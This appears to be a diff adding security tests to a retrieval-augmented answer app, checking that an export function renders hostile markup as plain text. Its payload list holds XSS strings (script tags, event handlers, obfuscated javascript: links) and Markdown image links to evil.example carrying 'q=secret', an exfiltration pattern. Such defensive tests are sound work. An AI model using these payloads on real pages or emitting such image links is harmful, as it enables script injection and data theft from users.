@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import random
+from html.parser import HTMLParser
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from ragapp.answer.export import as_markdown, inert
@@ -95,3 +98,55 @@ def test_an_abstention_shows_the_nearest_passages():
     assert "Nearest passages:" in made
     assert "Understood as" not in made
     assert max(map(len, made.splitlines())) < 400
+
+
+MARKUP = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+    "<svg><script>1</script></svg>",
+    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{background:url(//e)}</style>",
+    "![x](http://evil.example/?q=secret)", "![x][r]\n\n[r]: http://evil.example/?q=secret", "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)", "[x](http://evil.example)", "<http://evil.example>", "<javascript:alert(1)>",
+    "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
+    "![](data:image/svg+xml;base64,PHN2Zz4=)", "[![x](http://e/i.png)](http://e)", "&lt;script&gt;", "&#60;script&#62;",
+    "# Heading\n\n***", "| a | b |\n|:--|--:|\n| <img src=x> | ![](http://e) |", "```html onload=x\n<script>\n```",
+    "    <script>indented</script>", "`<script>`", "- a\n\n3. b", "http://evil.example www.evil.example a@evil.example",
+    "<!-- --><b>", "<math><mtext></mtext><mglyph><style></math>", "<a\nhref=x>", "\\<script>", "![x](//evil.example/a)",
+    "=====\nx\n-----", "<details open ontoggle=alert(1)>", "$$\\href{javascript:alert(1)}{x}$$", "~~~\n<script>\n~~~",
+]  # fmt: skip
+
+
+class Elements(HTMLParser):
+    def __init__(self, html):
+        super().__init__()
+        self.found, self.attributes, self.text = set(), [], ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.found.add(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data):
+        self.text += data
+
+
+@pytest.mark.parametrize("attack", MARKUP)
+@pytest.mark.parametrize("viewer", ["commonmark", "gfm-like"])
+def test_no_viewer_makes_more_of_it_than_text(viewer, attack):
+    markdown = MarkdownIt(viewer, {"html": True, "linkify": False}).enable("table")
+    elements = Elements(markdown.render(inert(attack)))
+    assert elements.found <= {"p", "code"}
+    assert elements.attributes == []
+    assert "".join(elements.text.split()) == "".join(attack.split())
+
+
+@given(st.text(st.sampled_from("<>![]()`*_#-+=|~&;:/.1aw\n\\ \"'$@{}"), max_size=40))
+def test_whatever_stands_in_it_is_only_read(text):
+    elements = Elements(MarkdownIt("commonmark", {"html": True}).enable("table").render(inert(text)))
+    assert elements.found <= {"p", "code"}
+
+
+@pytest.mark.parametrize("address", ["http://e.example", "https://e", "HTTP://E", "www.e.example", "mailto:a@b.c"])
+def test_bare_addresses_are_code(address):
+    assert f"`{address}`" in inert(f"see {address} now")
